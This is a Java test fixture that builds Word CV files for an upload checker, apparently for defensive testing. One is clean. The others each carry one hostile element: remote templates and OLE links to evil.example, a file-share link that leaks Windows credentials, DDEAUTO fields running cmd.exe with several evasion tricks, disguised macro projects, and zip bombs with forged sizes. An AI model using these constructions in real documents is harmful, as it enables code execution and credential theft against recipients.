package nl.werkbank.testing;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * S-4: Word (.docx) packages for the upload checks: a CV as Word writes one (with a LinkedIn
 * hyperlink and ordinary fields), and the same with one hostile part or element each.
 */
public final class Docx {

    private static final String W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
    private static final String R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    private static final String RELS = "http://schemas.openxmlformats.org/package/2006/relationships";
    private static final String HYPERLINK = R + "/hyperlink";
    private static final byte[] OLE_COMPOUND_FILE = {
        (byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1, 0, 0, 0, 0
    };

    private final Map<String, byte[]> parts = new LinkedHashMap<>();
    private final StringBuilder contentTypes = new StringBuilder();
    private final StringBuilder documentRelationships = new StringBuilder();
    private String body = paragraph("Petra Upload, interim projectleider")
            + "<w:p><w:hyperlink r:id=\"rIdLinkedIn\"><w:r><w:t>LinkedIn</w:t></w:r></w:hyperlink></w:p>"
            + field(" HYPERLINK \"https://www.example.nl/portfolio\" ")
            + field(" PAGE ");

    private Docx() {
        relationship("rIdLinkedIn", HYPERLINK, "https://www.linkedin.com/in/petra-upload", true);
    }

    /** A clean CV. */
    public static Docx cv() {
        return new Docx();
    }

    public static byte[] clean() {
        return cv().bytes();
    }

    /** A CV with a photo, about 1 MB: the size a real CV upload has. */
    public static byte[] typicalCv() {
        byte[] photo = new byte[1_000_000];
        new java.util.Random(15).nextBytes(photo);
        photo[0] = (byte) 0xFF;
        photo[1] = (byte) 0xD8;
        Docx docx = cv().withPart("word/media/image1.jpeg", photo)
                .withRelationship("rIdPhoto", R + "/image", "media/image1.jpeg", false);
        for (int i = 0; i < 200; i++) {
            docx.withBody(paragraph("Ervaring " + i + ": interim projectleider bij een gemeente, zorg en onderwijs."));
        }
        return docx.bytes();
    }

    public Docx withPart(String name, byte[] content) {
        parts.put(name, content);
        return this;
    }

    public Docx withPart(String name, String content) {
        return withPart(name, content.getBytes(StandardCharsets.UTF_8));
    }

    public Docx withContentType(String partName, String contentType) {
        contentTypes
                .append("<Override PartName=\"")
                .append(partName)
                .append("\" ContentType=\"")
                .append(contentType)
                .append("\"/>");
        return this;
    }

    public Docx withRelationship(String id, String type, String target, boolean external) {
        relationship(id, type, target, external);
        return this;
    }

    public Docx withBody(String markup) {
        body += markup;
        return this;
    }

    public static byte[] withRemoteTemplate() {
        return cv().withPart(
                        "word/_rels/settings.xml.rels",
                        relationships(
                                "<Relationship Id=\"rId1\" Type=\"" + R
                                        + "/attachedTemplate\" Target=\"https://evil.example/template.dotm\" TargetMode=\"External\"/>"))
                .bytes();
    }

    public static byte[] withExternalImage() {
        return cv().withRelationship("rIdPixel", R + "/image", "https://tracker.example/pixel.png", true)
                .bytes();
    }

    /** A hyperlink to a file share: opening it sends the reader's Windows credentials out. */
    public static byte[] withFileShareHyperlink() {
        return cv().withRelationship("rIdShare", HYPERLINK, "file://evil.example/share/cv.docx", true)
                .bytes();
    }

    public static byte[] withExternalOleObject() {
        return cv().withRelationship("rIdOle", R + "/oleObject", "mhtml:https://evil.example/x.html!x-usc:x", true)
                .bytes();
    }

    public static byte[] withOleObject() {
        return cv().withPart("word/embeddings/oleObject1.bin", OLE_COMPOUND_FILE)
                .withContentType(
                        "/word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject")
                .withRelationship("rIdOle", R + "/oleObject", "embeddings/oleObject1.bin", false)
                .withBody("<w:p><w:r><w:object><o:OLEObject xmlns:o=\"urn:schemas-microsoft-com:office:office\""
                        + " ProgID=\"Package\" r:id=\"rIdOle\"/></w:object></w:r></w:p>")
                .bytes();
    }

    /** Only the markup of an OLE object, its data stored under an innocent name and type. */
    public static byte[] withOleMarkupOnly() {
        return cv().withBody("<w:p><w:r><w:object><o:OLEObject xmlns:o=\"urn:schemas-microsoft-com:office:office\""
                        + " ProgID=\"Word.Document.12\"/></w:object></w:r></w:p>")
                .bytes();
    }

    public static byte[] withActiveX() {
        return cv().withPart(
                        "word/activeX/activeX1.xml",
                        "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\"/>")
                .withContentType("/word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
                .withBody("<w:p><w:r><w:control r:id=\"rIdAx\" w:name=\"CommandButton1\"/></w:r></w:p>")
                .bytes();
    }

    public static byte[] withDdeField() {
        return cv().withBody(field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" "))
                .bytes();
    }

    /** "dDeAuTo" split over three runs, as Word itself writes a field edited in pieces. */
    public static byte[] withDdeFieldSplitAcrossRuns() {
        return cv().withBody("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
                        + "<w:r><w:instrText xml:space=\"preserve\"> dD</w:instrText></w:r>"
                        + "<w:r><w:instrText>eAu</w:instrText></w:r>"
                        + "<w:r><w:instrText xml:space=\"preserve\">To cmd.exe \"/c calc\"</w:instrText></w:r>"
                        + "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>x</w:t></w:r>"
                        + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>")
                .bytes();
    }

    public static byte[] withSimpleDdeField() {
        return cv().withBody("<w:p><w:fldSimple w:instr=\" dde cmd.exe &quot;/c calc&quot; \"><w:r><w:t>x</w:t></w:r>"
                        + "</w:fldSimple></w:p>")
                .bytes();
    }

    /** The keyword made by a nested QUOTE field from character codes (68 68 69 = "DDE"). */
    public static byte[] withComputedFieldKeyword() {
        return cv().withBody("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
                        + "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
                        + "<w:r><w:instrText> QUOTE 68 68 69 65 85 84 79 </w:instrText></w:r>"
                        + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
                        + "<w:r><w:instrText> cmd.exe \"/c calc\" </w:instrText></w:r>"
                        + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>")
                .bytes();
    }

    public static byte[] withIncludePictureField() {
        return cv().withBody(field(" INCLUDEPICTURE \"https://tracker.example/pixel.png\" \\d "))
                .bytes();
    }

    public static byte[] withMacroProject() {
        return cv().withPart("word/vbaProject.bin", OLE_COMPOUND_FILE)
                .withContentType("/word/vbaProject.bin", "application/vnd.ms-office.vbaProject")
                .bytes();
    }

    /** The macro project in capitals and without its content type. */
    public static byte[] withUpperCaseMacroProject() {
        return cv().withPart("word/VBAPROJECT.BIN", "Attribute VB_Name").bytes();
    }

    /** The macro project under an innocent name: only its bytes say what it is. */
    public static byte[] withRenamedMacroProject() {
        return cv().withPart("word/media/image9.png", OLE_COMPOUND_FILE).bytes();
    }

    /** The macro project named by its content type only (and a relationship to it). */
    public static byte[] withMacroContentType() {
        return cv().withPart("word/settings2.dat", "data")
                .withContentType("/word/settings2.dat", "application/vnd.ms-office.VBAPROJECT")
                .bytes();
    }

    /** The main part declared macro-enabled (a .docm renamed to .docx). */
    public static byte[] withMacroEnabledMainPart() {
        return cv().withContentType("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml")
                .bytes();
    }

    /** A document part that inflates to 70 MB of spaces: a few tens of kilobytes packed. */
    public static byte[] zipBomb() {
        return cv().withPart("word/glossary/document.xml", " ".repeat(70 * 1024 * 1024))
                .bytes();
    }

    /**
     * The bomb with its sizes in the central directory rewritten to 1 kB: a reader that believed the
     * header would think it small.
     */
    public static byte[] zipBombWithLyingSizes() {
        byte[] zip = zipBomb();
        ByteBuffer buffer = ByteBuffer.wrap(zip).order(ByteOrder.LITTLE_ENDIAN);
        for (int i = 0; i + 46 <= zip.length; i++) {
            if (buffer.getInt(i) == 0x02014b50) {
                buffer.putInt(i + 24, 1024);
            }
        }
        return zip;
    }

    public static byte[] withTooManyParts() {
        Docx docx = cv();
        for (int i = 0; i < 1_000; i++) {
            docx.withPart("customXml/item" + i + ".xml", "<a/>");
        }
        return docx.bytes();
    }

    /** One part stored twice under two spellings: which one a reader shows is anyone's guess. */
    public static byte[] withDuplicatePart() {
        return cv().withPart("WORD/Document.xml", "<w:document xmlns:w=\"" + W + "\"/>")
                .bytes();
    }

    public byte[] bytes() {
        Map<String, byte[]> all = new LinkedHashMap<>();
        all.put(
                "[Content_Types].xml",
                utf8("<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
                        + "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                        + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
                        + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
                        + "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>"
                        + contentTypes
                        + "</Types>"));
        all.put(
                "_rels/.rels",
                utf8(relationships(
                        "<Relationship Id=\"rId1\" Type=\"" + R + "/officeDocument\" Target=\"word/document.xml\"/>")));
        all.put(
                "word/document.xml",
                utf8("<?xml version=\"1.0\" encoding=\"UTF-8\"?><w:document xmlns:w=\"" + W + "\" xmlns:r=\"" + R
                        + "\"><w:body>" + body + "</w:body></w:document>"));
        all.put("word/_rels/document.xml.rels", utf8(relationships(documentRelationships.toString())));
        all.putAll(parts);
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (Map.Entry<String, byte[]> part : all.entrySet()) {
                zip.putNextEntry(new ZipEntry(part.getKey()));
                zip.write(part.getValue());
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private void relationship(String id, String type, String target, boolean external) {
        documentRelationships
                .append("<Relationship Id=\"")
                .append(id)
                .append("\" Type=\"")
                .append(type)
                .append("\" Target=\"")
                .append(target)
                .append('"')
                .append(external ? " TargetMode=\"External\"" : "")
                .append("/>");
    }

    private static String relationships(String content) {
        return "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"" + RELS + "\">" + content
                + "</Relationships>";
    }

    private static String paragraph(String text) {
        return "<w:p><w:r><w:t>" + text + "</w:t></w:r></w:p>";
    }

    private static String field(String instruction) {
        return "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\">"
                + instruction + "</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
                + "<w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
